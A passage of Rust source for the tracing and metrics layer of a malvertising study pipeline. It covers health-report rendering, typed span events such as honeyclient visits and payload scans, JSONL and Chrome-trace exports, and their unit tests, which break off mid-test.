            let _ = writeln!(
                out,
                "\n[{}] {}/{} shards · {}/{} jobs · {} wall · {:.0} jobs/s (range {:.0}–{:.0})",
                s.stage,
                s.shards_done,
                s.shards_total,
                s.jobs_done,
                s.jobs_total,
                human_duration_us(s.wall_us),
                s.jobs_per_sec,
                s.jobs_per_sec_min,
                s.jobs_per_sec_max,
            );
            let _ = writeln!(
                out,
                "  latency: p50 {}µs · p95 {}µs · p99 {}µs · max {}µs",
                s.job_p50_us, s.job_p95_us, s.job_p99_us, s.job_max_us
            );
            let _ = writeln!(
                out,
                "  workers: {} · balance {:.2}x (min {} / max {} jobs) · {} steals · {} parks",
                s.workers, s.balance_ratio, s.worker_jobs_min, s.worker_jobs_max, s.steals, s.parks
            );
            if s.checkpoint.writes > 0 {
                let _ = writeln!(
                    out,
                    "  checkpoints: {} writes · {} bytes · {} ({:.2}% of stage wall)",
                    s.checkpoint.writes,
                    s.checkpoint.bytes,
                    human_duration_us(s.checkpoint.wall_us),
                    s.checkpoint_overhead_pct
                );
            } else {
                out.push_str("  checkpoints: none\n");
            }
            if s.vm.dispatches > 0 {
                let _ = writeln!(
                    out,
                    "  vm: {} dispatches · ic hits {} / misses {} · \
                     shape hits {} · shape transitions {}",
                    s.vm.dispatches,
                    s.vm.ic_hits,
                    s.vm.ic_misses,
                    s.vm.shape_hits,
                    s.vm.shape_transitions
                );
            }
            // Daemon stages carry the serve counter family; surface the
            // service health figures on their own line.
            if let Some(&ingested) = s.counters.get("serve_ingested") {
                let counter = |name: &str| s.counters.get(name).copied().unwrap_or(0);
                let hits = counter("serve_cache_hits");
                let hit_rate = if ingested > 0 {
                    hits as f64 * 100.0 / ingested as f64
                } else {
                    0.0
                };
                let _ = writeln!(
                    out,
                    "  serve: {:.0} impressions/s ingest · cache hit rate {:.1}% · \
                     {} re-scans · backlog {} · shed {} · {} cached verdicts",
                    s.jobs_per_sec,
                    hit_rate,
                    counter("serve_rescans"),
                    counter("serve_rescan_backlog"),
                    counter("serve_shed"),
                    counter("unique_creatives"),
                );
            }
            if !s.counters.is_empty() {
                let counters: Vec<String> =
                    s.counters.iter().map(|(k, v)| format!("{k} {v}")).collect();
                let _ = writeln!(out, "  counters: {}", counters.join(" · "));
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_registry_is_inert() {
        let reg = MetricsRegistry::disabled();
        assert!(!reg.is_enabled());
        let worker = reg.for_worker();
        assert!(worker.start().is_none());
        worker.record_visit(None);
        let sampler = reg.stage("crawl", 0, 100, 10, false);
        assert!(!sampler.is_enabled());
        sampler.sample(
            1,
            10,
            BTreeMap::new(),
            EngineBalance::default(),
            VmMeter::default(),
        );
        reg.checkpoint_written(100, Duration::from_millis(1));
        assert!(reg.collect().is_empty());
    }

    #[test]
    fn atomic_histogram_snapshot_matches_plain_recording() {
        let atomic = AtomicHistogram::new();
        let mut plain = LogHistogram::new();
        for us in [0, 1, 2, 3, 100, 4096, 1_000_000] {
            atomic.record_us(us);
            plain.record_us(us);
        }
        assert_eq!(atomic.snapshot(), plain);
    }

    #[test]
    fn samples_strip_and_round_trip() {
        let reg = MetricsRegistry::new();
        let worker = reg.for_worker();
        let t = worker.start();
        worker.record_visit(t);
        let sampler = reg.stage("crawl", 0, 100, 25, false);
        reg.checkpoint_written(2048, Duration::from_micros(500));
        let mut counters = BTreeMap::new();
        counters.insert("page_loads".to_string(), 25);
        sampler.sample(
            1,
            25,
            counters,
            EngineBalance {
                steals: 2,
                parks: 3,
                worker_jobs: vec![13, 12],
            },
            VmMeter {
                dispatches: 5000,
                ic_hits: 400,
                ic_misses: 20,
                shape_hits: 350,
                shape_transitions: 15,
            },
        );
        let log = reg.collect();
        assert_eq!(log.len(), 1);
        let sample = &log.samples()[0];
        assert_eq!(sample.det.shards_total, 4);
        let wall = sample.wall.as_ref().expect("live sample has an envelope");
        assert_eq!(wall.checkpoint.writes, 1);
        assert_eq!(wall.checkpoint.bytes, 2048);
        assert_eq!(wall.balance.steals, 2);
        assert_eq!(wall.job_hist.count(), 1);
        assert_eq!(wall.vm.dispatches, 5000);
        assert_eq!(wall.vm.shape_hits, 350);

        // JSONL round-trips, and the stripped stream has no wall key.
        let back = MetricsLog::from_jsonl(&log.to_jsonl()).expect("jsonl parses");
        assert_eq!(&back, &log);
        let det = log.deterministic_jsonl();
        assert!(!det.contains("\"wall\""), "stripped stream leaks wall data");
        let stripped = MetricsLog::from_jsonl(&det).expect("stripped jsonl parses");
        assert!(stripped.samples()[0].wall.is_none());
    }

    #[test]
    fn health_report_distills_the_series() {
        let reg = MetricsRegistry::new();
        let worker = reg.for_worker();
        for us in [100u64, 200, 400, 800] {
            let shard = worker.shard.as_ref().unwrap();
            shard.visit.record_us(us);
        }
        let sampler = reg.stage("crawl", 0, 40, 20, false);
        reg.checkpoint_written(1000, Duration::from_micros(200));
        for (shard, done) in [(1u64, 20u64), (2, 40)] {
            sampler.sample(
                shard,
                done,
                BTreeMap::from([("errors_total".to_string(), shard)]),
                EngineBalance {
                    steals: shard,
                    parks: 0,
                    worker_jobs: vec![done / 2, done / 2],
                },
                VmMeter {
                    dispatches: done * 100,
                    ic_hits: done * 10,
                    ic_misses: done,
                    shape_hits: done * 8,
                    shape_transitions: done / 4,
                },
            );
        }
        let report = reg.collect().health();
        assert_eq!(report.stages.len(), 1);
        let s = &report.stages[0];
        assert_eq!(s.stage, "crawl");
        assert_eq!(s.samples, 2);
        assert_eq!(s.shards_done, 2);
        assert_eq!(s.jobs_done, 40);
        assert_eq!(s.steals, 2);
        assert_eq!(s.workers, 2);
        assert!((s.balance_ratio - 1.0).abs() < 1e-9, "even split balances");
        assert!(s.job_p50_us > 0 && s.job_p95_us >= s.job_p50_us);
        assert_eq!(s.checkpoint.writes, 1);
        assert!(s.checkpoint_overhead_pct > 0.0);
        assert_eq!(s.counters["errors_total"], 2);
        assert_eq!(s.vm.dispatches, 4000, "last sample's cumulative meters");
        assert_eq!(s.vm.shape_hits, 320);
        let rendered = report.render();
        assert!(rendered.contains("[crawl]"));
        assert!(rendered.contains("p95"));
        assert!(rendered.contains("shape hits 320"));
        assert!(rendered.contains("shape transitions 10"));
        assert!(rendered.contains("balance"));

        // The report itself serializes (the bench-json hook writes it).
        let json = serde_json::to_string(&report).expect("report serializes");
        let back: HealthReport = serde_json::from_str(&json).expect("report parses");
        assert_eq!(back, report);
    }

    #[test]
    fn checkpoint_meters_are_per_stage() {
        let reg = MetricsRegistry::new();
        let crawl = reg.stage("crawl", 0, 10, 5, false);
        reg.checkpoint_written(100, Duration::from_micros(50));
        crawl.sample(
            1,
            5,
            BTreeMap::new(),
            EngineBalance::default(),
            VmMeter::default(),
        );
        let classify = reg.stage("classify", 0, 10, 5, false);
        reg.checkpoint_written(200, Duration::from_micros(70));
        classify.sample(
            1,
            5,
            BTreeMap::new(),
            EngineBalance::default(),
            VmMeter::default(),
        );
        let log = reg.collect();
        let first = log.samples()[0].wall.as_ref().unwrap();
        let second = log.samples()[1].wall.as_ref().unwrap();
        assert_eq!(first.checkpoint.bytes, 100);
        assert_eq!(second.checkpoint.writes, 1);
        assert_eq!(
            second.checkpoint.bytes, 200,
            "a stage meters only its own checkpoint writes"
        );
    }

    #[test]
    fn zero_width_sample_window_still_bounds_throughput() {
        // Two boundary samples landing in the same clock tick: jobs advance
        // 20 -> 40 while stage_elapsed_us stays put. The window clamps to
        // 1 µs, so the burst registers as 20 jobs / 1 µs = 2e7 jobs/s
        // instead of the pair silently falling back to the cumulative rate.
        let sample = |jobs_done: u64, elapsed_us: u64| MetricsSample {
            det: SampleDet {
                stage: "classify".to_string(),
                shard: jobs_done / 20,
                shards_total: 2,
                jobs_done,
                jobs_total: 40,
                counters: BTreeMap::new(),
            },
            wall: Some(SampleWall {
                ts_us: elapsed_us,
                stage_elapsed_us: elapsed_us,
                jobs_per_sec: 123.0,
                eta_us: 0,
                balance: EngineBalance::default(),
                job_hist: LogHistogram::new(),
                job_p50_us: 0,
                job_p95_us: 0,
                job_max_us: 0,
                checkpoint: CheckpointMeter::default(),
                vm: VmMeter::default(),
            }),
        };
        let report = HealthReport::from_samples(&[sample(20, 1000), sample(40, 1000)]);
        let s = &report.stages[0];
        assert_eq!(
            s.jobs_per_sec_max, 2e7,
            "zero-width window must clamp to 1 µs, not vanish into the cumulative fallback"
        );
        assert_eq!(s.jobs_per_sec_min, 2e7);

        // A normal window still computes the plain delta rate.
        let report = HealthReport::from_samples(&[sample(20, 0), sample(40, 2_000_000)]);
        let s = &report.stages[0];
        assert!((s.jobs_per_sec_max - 10.0).abs() < 1e-9);
    }

    #[test]
    fn serve_stages_render_a_service_health_line() {
        let mut counters = BTreeMap::new();
        counters.insert("serve_ingested".to_string(), 200u64);
        counters.insert("serve_cache_hits".to_string(), 50);
        counters.insert("serve_rescans".to_string(), 7);
        counters.insert("serve_rescan_backlog".to_string(), 3);
        counters.insert("serve_shed".to_string(), 11);
        counters.insert("unique_creatives".to_string(), 42);
        let sample = MetricsSample {
            det: SampleDet {
                stage: "serve".to_string(),
                shard: 1,
                shards_total: 1,
                jobs_done: 200,
                jobs_total: 200,
                counters,
            },
            wall: None,
        };
        let rendered = HealthReport::from_samples(&[sample]).render();
        assert!(
            rendered.contains("cache hit rate 25.0%"),
            "missing serve line:\n{rendered}"
        );
        assert!(rendered.contains("7 re-scans · backlog 3 · shed 11 · 42 cached verdicts"));

        // Non-serve stages don't grow the line.
        let plain = MetricsSample {
            det: SampleDet {
                stage: "classify".to_string(),
                shard: 1,
                shards_total: 1,
                jobs_done: 5,
                jobs_total: 5,
                counters: BTreeMap::new(),
            },
            wall: None,
        };
        let rendered = HealthReport::from_samples(&[plain]).render();
        assert!(!rendered.contains("cache hit rate"));
    }

    #[test]
    fn stripped_series_health_keeps_deterministic_figures() {
        let reg = MetricsRegistry::new();
        let sampler = reg.stage("classify", 0, 10, 5, false);
        sampler.sample(
            1,
            5,
            BTreeMap::new(),
            EngineBalance::default(),
            VmMeter::default(),
        );
        sampler.sample(
            2,
            10,
            BTreeMap::new(),
            EngineBalance::default(),
            VmMeter::default(),
        );
        let stripped =
            MetricsLog::from_jsonl(&reg.collect().deterministic_jsonl()).expect("parses");
        let report = stripped.health();
        let s = &report.stages[0];
        assert_eq!(s.jobs_done, 10);
        assert_eq!(s.shards_done, 2);
        assert_eq!(s.wall_us, 0, "stripped series has no wall clock");
        assert_eq!(s.job_p95_us, 0);
    }

    #[test]
    fn heartbeat_renders_progress_fields() {
        let reg = MetricsRegistry::new();
        let sampler = reg.stage("crawl", 0, 200, 50, false);
        sampler.sample(
            1,
            50,
            BTreeMap::from([("errors_total".to_string(), 7)]),
            EngineBalance {
                steals: 4,
                parks: 1,
                worker_jobs: vec![25, 25],
            },
            VmMeter::default(),
        );
        let line = render_heartbeat(&reg.collect().samples()[0]);
        assert!(line.starts_with("[crawl] shard 1/4"));
        assert!(line.contains("50/200 jobs (25%)"));
        assert!(line.contains("jobs/s"));
        assert!(line.contains("eta"));
        assert!(line.contains("4 steals"));
        assert!(line.contains("7 errors"));
    }
}
