//! # malvert-trace
//!
//! Structured observability for the study pipeline: a lock-free,
//! worker-sharded event log of typed spans, incident provenance records,
//! and deterministically mergeable latency histograms.
//!
//! The design splits every recorded event into two parts:
//!
//! * a **deterministic payload** — stable id, unit key, sequence number,
//!   [`SpanKind`], name, and (for incident events) a [`Provenance`]
//!   record — which is a pure function of the study seed and therefore
//!   byte-identical across worker counts and runs;
//! * a **wall envelope** ([`WallInfo`]) — timestamp, duration, and the
//!   worker that happened to execute the unit — which is scheduling- and
//!   clock-dependent and can be stripped
//!   ([`TraceReport::deterministic_jsonl`]) for byte-identity checks.
//!
//! Recording is cheap and contention-free: each worker thread gets its own
//! unbounded channel shard ([`TraceSink::for_worker`]); the only lock is
//! taken once per shard registration, never per event. A disabled sink
//! ([`TraceSink::disabled`]) reduces every record call to an `Option`
//! check, so traced and untraced code paths share one implementation.
//!
//! Exports: JSONL ([`TraceReport::to_jsonl`]), Chrome trace-event JSON
//! ([`TraceReport::to_chrome_trace`], loadable in `chrome://tracing` and
//! Perfetto), and per-kind/per-worker latency histograms
//! ([`TraceReport::latencies`]) that layer into the study's `RunSummary`.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod event;
pub mod export;
pub mod histogram;
pub mod metrics;
pub mod provenance;
pub mod sink;

pub use event::{SpanKind, TraceEvent, WallInfo};
pub use export::{TraceReport, WorkerLoad};
pub use histogram::{LogHistogram, SpanLatency, BUCKET_COUNT};
pub use metrics::{
    AtomicHistogram, CheckpointMeter, EngineBalance, HealthReport, MetricsLog, MetricsRegistry,
    MetricsSample, SampleDet, SampleWall, StageHealth, StageSampler, VmMeter, WorkerMetrics,
};
pub use provenance::{OracleComponent, Provenance};
pub use sink::{SpanGuard, TraceCollector, TraceSink};
