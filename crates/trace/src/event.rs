//! Typed trace events with stable identities.

use crate::provenance::Provenance;
use malvert_types::rng::mix_label;
use serde::{Deserialize, Serialize};

/// Seed domain for [`TraceEvent::stable_id`] derivation, so event ids live
/// in their own hash space and never collide with creative keys.
const ID_DOMAIN: u64 = 0x7472_6163_655F_6964; // "trace_id"

/// The kind of work a span or instant event describes — the span taxonomy.
///
/// The first four are the pipeline stages (matching `core::metrics::StageId`
/// one-to-one); the rest are per-unit work spans and the incident marker.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SpanKind {
    /// World generation (web + ad economy + oracle services).
    WorldBuild,
    /// The whole crawl stage.
    Crawl,
    /// The whole classification stage.
    Classify,
    /// The aggregation stage.
    Aggregate,
    /// One page visit of the crawl (one site at one schedule slot).
    CrawlVisit,
    /// Classification of one unique advertisement, end to end.
    ClassifyAd,
    /// The oracle's honeyclient re-visit of one advertisement.
    HoneyclientVisit,
    /// One aggregate blacklist lookup (one host against all feeds).
    BlacklistLookup,
    /// One multi-engine scan of one downloaded payload.
    PayloadScan,
    /// One filter-list match of an iframe URL during a crawl visit.
    FilterMatch,
    /// Script compile units executed during one crawl visit (inline and
    /// external scripts plus `eval` layers; cache hits included).
    ScriptCompile,
    /// A crawl error met during a visit (instant event): an injected fault
    /// or a genuine failure, recovered or not.
    Fault,
    /// Retries a visit spent recovering from transient faults (instant
    /// event, one per visit that retried).
    Retry,
    /// An incident raised by the oracle (instant event, carries
    /// [`Provenance`]).
    Incident,
}

impl SpanKind {
    /// Every kind, in taxonomy order.
    pub const ALL: [SpanKind; 14] = [
        SpanKind::WorldBuild,
        SpanKind::Crawl,
        SpanKind::Classify,
        SpanKind::Aggregate,
        SpanKind::CrawlVisit,
        SpanKind::ClassifyAd,
        SpanKind::HoneyclientVisit,
        SpanKind::BlacklistLookup,
        SpanKind::PayloadScan,
        SpanKind::FilterMatch,
        SpanKind::ScriptCompile,
        SpanKind::Fault,
        SpanKind::Retry,
        SpanKind::Incident,
    ];

    /// Stable snake_case label (matches the serde spelling).
    pub fn label(self) -> &'static str {
        match self {
            SpanKind::WorldBuild => "world_build",
            SpanKind::Crawl => "crawl",
            SpanKind::Classify => "classify",
            SpanKind::Aggregate => "aggregate",
            SpanKind::CrawlVisit => "crawl_visit",
            SpanKind::ClassifyAd => "classify_ad",
            SpanKind::HoneyclientVisit => "honeyclient_visit",
            SpanKind::BlacklistLookup => "blacklist_lookup",
            SpanKind::PayloadScan => "payload_scan",
            SpanKind::FilterMatch => "filter_match",
            SpanKind::ScriptCompile => "script_compile",
            SpanKind::Fault => "fault",
            SpanKind::Retry => "retry",
            SpanKind::Incident => "incident",
        }
    }
}

/// The non-deterministic envelope of an event: wall-clock placement and the
/// worker that executed it. Worker attribution lives here (not in the
/// deterministic payload) because which worker picks up a unit is a
/// scheduling accident.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct WallInfo {
    /// Microseconds since the collector's epoch at which the event started.
    pub ts_us: u64,
    /// Span duration in microseconds; `None` for instant events.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub dur_us: Option<u64>,
    /// Worker index that recorded the event (0 = the driving thread).
    pub worker: u32,
}

/// One structured trace event: a completed span or an instant marker.
///
/// Everything except `wall` is deterministic in the study seed; see the
/// crate docs for the determinism contract.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceEvent {
    /// Stable identity, derived from `(unit, seq, kind)` — identical across
    /// runs and worker counts.
    pub id: u64,
    /// The work unit the event belongs to: a creative key for
    /// classification, a site/slot key for crawl visits, `0` for
    /// stage-level spans.
    pub unit: u64,
    /// Position within the unit's event sequence (0-based).
    pub seq: u32,
    /// What the event describes.
    pub kind: SpanKind,
    /// Deterministic human-readable name (URL, host, stage label, …).
    pub name: String,
    /// Incident provenance (incident events only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub provenance: Option<Provenance>,
    /// Wall-clock envelope; `None` after stripping.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub wall: Option<WallInfo>,
}

impl TraceEvent {
    /// Derives the stable event id from its deterministic coordinates.
    pub fn stable_id(unit: u64, seq: u32, kind: SpanKind) -> u64 {
        let mut coords = [0u8; 12];
        coords[..8].copy_from_slice(&unit.to_le_bytes());
        coords[8..].copy_from_slice(&seq.to_le_bytes());
        mix_label(mix_label(ID_DOMAIN, kind.label().as_bytes()), &coords)
    }

    /// A copy with the wall envelope removed — the deterministic payload.
    pub fn stripped(&self) -> TraceEvent {
        TraceEvent {
            wall: None,
            ..self.clone()
        }
    }

    /// Canonical ordering key: `(unit, seq, id)`. Independent of recording
    /// order, so sorted event streams are byte-identical across worker
    /// counts.
    pub fn sort_key(&self) -> (u64, u32, u64) {
        (self.unit, self.seq, self.id)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stable_ids_depend_on_all_coordinates() {
        let base = TraceEvent::stable_id(1, 0, SpanKind::CrawlVisit);
        assert_ne!(base, TraceEvent::stable_id(2, 0, SpanKind::CrawlVisit));
        assert_ne!(base, TraceEvent::stable_id(1, 1, SpanKind::CrawlVisit));
        assert_ne!(base, TraceEvent::stable_id(1, 0, SpanKind::ClassifyAd));
        // And are reproducible.
        assert_eq!(base, TraceEvent::stable_id(1, 0, SpanKind::CrawlVisit));
    }

    #[test]
    fn stripped_removes_only_wall() {
        let e = TraceEvent {
            id: TraceEvent::stable_id(9, 2, SpanKind::PayloadScan),
            unit: 9,
            seq: 2,
            kind: SpanKind::PayloadScan,
            name: "scan 128 bytes".into(),
            provenance: None,
            wall: Some(WallInfo {
                ts_us: 555,
                dur_us: Some(21),
                worker: 3,
            }),
        };
        let s = e.stripped();
        assert!(s.wall.is_none());
        assert_eq!(s.id, e.id);
        assert_eq!(s.name, e.name);
        // The stripped serialization has no wall key at all.
        let json = serde_json::to_string(&s).unwrap();
        assert!(!json.contains("wall"));
    }

    #[test]
    fn serde_round_trip() {
        let e = TraceEvent {
            id: 7,
            unit: 0,
            seq: 1,
            kind: SpanKind::Crawl,
            name: "crawl".into(),
            provenance: None,
            wall: Some(WallInfo {
                ts_us: 10,
                dur_us: None,
                worker: 0,
            }),
        };
        let json = serde_json::to_string(&e).unwrap();
        assert!(json.contains("\"kind\":\"crawl\""));
        let back: TraceEvent = serde_json::from_str(&json).unwrap();
        assert_eq!(back, e);
    }

    #[test]
    fn labels_match_serde_spelling() {
        for kind in SpanKind::ALL {
            let json = serde_json::to_string(&kind).unwrap();
            assert_eq!(json, format!("\"{}\"", kind.label()));
        }
    }
}
