//! Trace exports: JSONL event streams, Chrome trace-event JSON, latency
//! histograms, and the human-readable `malvert trace` summary.

use crate::event::{SpanKind, TraceEvent};
use crate::histogram::{LogHistogram, SpanLatency};
use serde_json::json;
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io;
use std::path::{Path, PathBuf};

/// A finished, canonically sorted trace.
#[derive(Debug, Clone, Default)]
pub struct TraceReport {
    events: Vec<TraceEvent>,
}

impl TraceReport {
    /// Builds a report, sorting the events into canonical
    /// `(unit, seq, id)` order.
    pub fn new(mut events: Vec<TraceEvent>) -> Self {
        events.sort_by_key(TraceEvent::sort_key);
        TraceReport { events }
    }

    /// The events in canonical order.
    pub fn events(&self) -> &[TraceEvent] {
        &self.events
    }

    /// One JSON object per line, wall envelopes included.
    pub fn to_jsonl(&self) -> String {
        let mut out = String::new();
        for event in &self.events {
            out.push_str(&serde_json::to_string(event).expect("trace event serializes"));
            out.push('\n');
        }
        out
    }

    /// The deterministic payload stream: same order as [`Self::to_jsonl`]
    /// but with every wall envelope stripped. Byte-identical across runs
    /// and worker counts for the same study seed.
    pub fn deterministic_jsonl(&self) -> String {
        let mut out = String::new();
        for event in &self.events {
            out.push_str(
                &serde_json::to_string(&event.stripped()).expect("trace event serializes"),
            );
            out.push('\n');
        }
        out
    }

    /// Parses a JSONL event stream back into a report (re-sorting
    /// canonically). Blank lines are skipped; errors carry line numbers.
    pub fn from_jsonl(text: &str) -> Result<TraceReport, String> {
        let mut events = Vec::new();
        for (number, line) in text.lines().enumerate() {
            if line.trim().is_empty() {
                continue;
            }
            let event: TraceEvent =
                serde_json::from_str(line).map_err(|e| format!("line {}: {}", number + 1, e))?;
            events.push(event);
        }
        Ok(TraceReport::new(events))
    }

    /// Chrome trace-event JSON (the array form), loadable in
    /// `chrome://tracing` and Perfetto. Spans become complete (`"X"`)
    /// events with durations; instants become `"i"` events. `tid` is the
    /// worker index, so per-worker lanes show scheduling skew directly.
    pub fn to_chrome_trace(&self) -> String {
        let entries: Vec<serde_json::Value> = self
            .events
            .iter()
            .map(|event| {
                let wall = event.wall.unwrap_or_default();
                let mut entry = json!({
                    "name": event.name,
                    "cat": event.kind.label(),
                    "ts": wall.ts_us,
                    "pid": 1,
                    "tid": wall.worker,
                    "args": {
                        "unit": format!("{:016x}", event.unit),
                        "seq": event.seq,
                    },
                });
                let object = entry.as_object_mut().expect("entry is an object");
                match wall.dur_us {
                    Some(dur) => {
                        object.insert("ph".into(), json!("X"));
                        object.insert("dur".into(), json!(dur));
                    }
                    None => {
                        object.insert("ph".into(), json!("i"));
                        object.insert("s".into(), json!("t"));
                    }
                }
                entry
            })
            .collect();
        serde_json::to_string(&serde_json::Value::Array(entries)).expect("trace serializes")
    }

    /// Latency summaries from every event that carries a duration: for each
    /// span kind, one merged entry (`worker: None`) followed by per-worker
    /// entries, in deterministic `(kind, worker)` order.
    pub fn latencies(&self) -> Vec<SpanLatency> {
        let mut merged: BTreeMap<SpanKind, LogHistogram> = BTreeMap::new();
        let mut per_worker: BTreeMap<(SpanKind, u32), LogHistogram> = BTreeMap::new();
        for event in &self.events {
            let Some(wall) = event.wall else { continue };
            let Some(dur) = wall.dur_us else { continue };
            merged.entry(event.kind).or_default().record_us(dur);
            per_worker
                .entry((event.kind, wall.worker))
                .or_default()
                .record_us(dur);
        }
        let mut out = Vec::new();
        for (kind, hist) in merged {
            out.push(SpanLatency::from_hist(kind, None, hist));
        }
        for ((kind, worker), hist) in per_worker {
            out.push(SpanLatency::from_hist(kind, Some(worker), hist));
        }
        out
    }

    /// The `n` slowest spans, longest first (ties broken canonically).
    pub fn slowest_spans(&self, n: usize) -> Vec<&TraceEvent> {
        let mut spans: Vec<&TraceEvent> = self
            .events
            .iter()
            .filter(|e| e.wall.and_then(|w| w.dur_us).is_some())
            .collect();
        spans.sort_by_key(|e| {
            let dur = e.wall.and_then(|w| w.dur_us).unwrap_or(0);
            (std::cmp::Reverse(dur), e.sort_key())
        });
        spans.truncate(n);
        spans
    }

    /// Every incident event (each carries a provenance record).
    pub fn incidents(&self) -> Vec<&TraceEvent> {
        self.events
            .iter()
            .filter(|e| e.kind == SpanKind::Incident)
            .collect()
    }

    /// Per-worker load over the unit work spans (crawl visits + classified
    /// ads): how many units each worker picked up and how long it was busy.
    pub fn worker_skew(&self) -> BTreeMap<u32, WorkerLoad> {
        let mut skew: BTreeMap<u32, WorkerLoad> = BTreeMap::new();
        for event in &self.events {
            if !matches!(event.kind, SpanKind::CrawlVisit | SpanKind::ClassifyAd) {
                continue;
            }
            let Some(wall) = event.wall else { continue };
            let Some(dur) = wall.dur_us else { continue };
            let load = skew.entry(wall.worker).or_default();
            load.spans += 1;
            load.busy_us += dur;
        }
        skew
    }

    /// Writes `events.jsonl` and `trace.json` under `dir` (created if
    /// missing); returns the two paths.
    pub fn write_dir(&self, dir: &Path) -> io::Result<(PathBuf, PathBuf)> {
        std::fs::create_dir_all(dir)?;
        let events_path = dir.join("events.jsonl");
        let chrome_path = dir.join("trace.json");
        std::fs::write(&events_path, self.to_jsonl())?;
        std::fs::write(&chrome_path, self.to_chrome_trace())?;
        Ok((events_path, chrome_path))
    }

    /// The human-readable summary printed by `malvert trace`: slowest
    /// spans, per-worker skew, and flagged-ad provenance.
    pub fn render_summary(&self, top: usize) -> String {
        let mut out = String::new();
        let spans = self
            .events
            .iter()
            .filter(|e| e.wall.and_then(|w| w.dur_us).is_some())
            .count();
        let incidents = self.incidents();
        let _ = writeln!(
            out,
            "trace: {} events ({} spans, {} incident records)",
            self.events.len(),
            spans,
            incidents.len()
        );

        let _ = writeln!(out, "\nslowest spans:");
        for event in self.slowest_spans(top) {
            let wall = event.wall.unwrap_or_default();
            let _ = writeln!(
                out,
                "  {:>10.1} ms  [{}] {} (worker {})",
                wall.dur_us.unwrap_or(0) as f64 / 1_000.0,
                event.kind.label(),
                event.name,
                wall.worker
            );
        }

        let _ = writeln!(out, "\nper-worker skew (crawl visits + classified ads):");
        for (worker, load) in self.worker_skew() {
            let _ = writeln!(
                out,
                "  worker {:>3}: {:>6} spans, {:>10.1} ms busy",
                worker,
                load.spans,
                load.busy_us as f64 / 1_000.0
            );
        }

        let _ = writeln!(out, "\nflagged-ad provenance:");
        for event in incidents.iter().take(top) {
            let Some(p) = &event.provenance else { continue };
            let mut evidence = vec![format!("component {}", p.component.label())];
            if let Some(hop) = p.chain_hop {
                evidence.push(format!("hop {hop}"));
            }
            if !p.matched_feeds.is_empty() {
                evidence.push(format!("feeds[{}]", p.matched_feeds.len()));
            }
            if !p.engine_votes.is_empty() {
                evidence.push(format!("engines[{}]", p.engine_votes.len()));
            }
            let _ = writeln!(
                out,
                "  unit {:016x}: {} <- {}",
                event.unit,
                event.name,
                evidence.join(", ")
            );
        }
        if incidents.len() > top {
            let _ = writeln!(out, "  ... and {} more", incidents.len() - top);
        }
        out
    }
}

/// Per-worker load over the unit work spans; see
/// [`TraceReport::worker_skew`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct WorkerLoad {
    /// Unit spans (crawl visits + classified ads) the worker executed.
    pub spans: u64,
    /// Total busy time across those spans, microseconds.
    pub busy_us: u64,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::WallInfo;
    use crate::provenance::{OracleComponent, Provenance};

    fn event(unit: u64, seq: u32, kind: SpanKind, dur_us: Option<u64>, worker: u32) -> TraceEvent {
        TraceEvent {
            id: TraceEvent::stable_id(unit, seq, kind),
            unit,
            seq,
            kind,
            name: format!("{} {unit:x}/{seq}", kind.label()),
            provenance: None,
            wall: Some(WallInfo {
                ts_us: 100 * u64::from(seq),
                dur_us,
                worker,
            }),
        }
    }

    fn sample() -> TraceReport {
        let mut incident = event(0xA, 2, SpanKind::Incident, None, 1);
        incident.provenance = Some(
            Provenance::component(OracleComponent::Blacklists)
                .at_hop(1)
                .with_feeds(vec!["feed-a".into(), "feed-b".into()]),
        );
        TraceReport::new(vec![
            event(0xB, 0, SpanKind::ClassifyAd, Some(9_000), 2),
            event(0xA, 0, SpanKind::ClassifyAd, Some(2_000), 1),
            event(0xA, 1, SpanKind::HoneyclientVisit, Some(1_500), 1),
            incident,
            event(0, 0, SpanKind::Crawl, Some(50_000), 0),
        ])
    }

    #[test]
    fn jsonl_round_trips_and_resorts() {
        let report = sample();
        let text = report.to_jsonl();
        let back = TraceReport::from_jsonl(&text).unwrap();
        assert_eq!(back.events(), report.events());
        // Canonical order regardless of construction order.
        assert_eq!(report.events()[0].kind, SpanKind::Crawl);
        assert_eq!(report.events()[1].unit, 0xA);
        // Blank lines are tolerated; garbage is a line-numbered error.
        assert!(TraceReport::from_jsonl("\n\n").unwrap().events().is_empty());
        let err = TraceReport::from_jsonl("not json").unwrap_err();
        assert!(err.starts_with("line 1:"), "{err}");
    }

    #[test]
    fn deterministic_jsonl_strips_wall() {
        let report = sample();
        let stripped = report.deterministic_jsonl();
        assert!(!stripped.contains("wall"));
        assert!(!stripped.contains("ts_us"));
        // The payload still round-trips and keeps provenance.
        let back = TraceReport::from_jsonl(&stripped).unwrap();
        assert_eq!(back.incidents().len(), 1);
        assert!(back.incidents()[0].provenance.is_some());
    }

    #[test]
    fn chrome_trace_schema() {
        let report = sample();
        let value: serde_json::Value = serde_json::from_str(&report.to_chrome_trace()).unwrap();
        let entries = value.as_array().expect("top level is an array");
        assert_eq!(entries.len(), report.events().len());
        for entry in entries {
            for key in ["name", "ph", "ts", "pid", "tid"] {
                assert!(entry.get(key).is_some(), "missing {key} in {entry}");
            }
            match entry["ph"].as_str().unwrap() {
                "X" => assert!(entry.get("dur").is_some()),
                "i" => assert_eq!(entry["s"], "t"),
                other => panic!("unexpected phase {other}"),
            }
        }
        // The incident instant landed on worker 1's lane.
        let instant = entries.iter().find(|e| e["ph"] == "i").unwrap();
        assert_eq!(instant["tid"], 1);
    }

    #[test]
    fn latencies_merge_and_split_by_worker() {
        let report = sample();
        let latencies = report.latencies();
        let classify_all = latencies
            .iter()
            .find(|l| l.kind == SpanKind::ClassifyAd && l.worker.is_none())
            .unwrap();
        assert_eq!(classify_all.hist.count(), 2);
        let classify_w1 = latencies
            .iter()
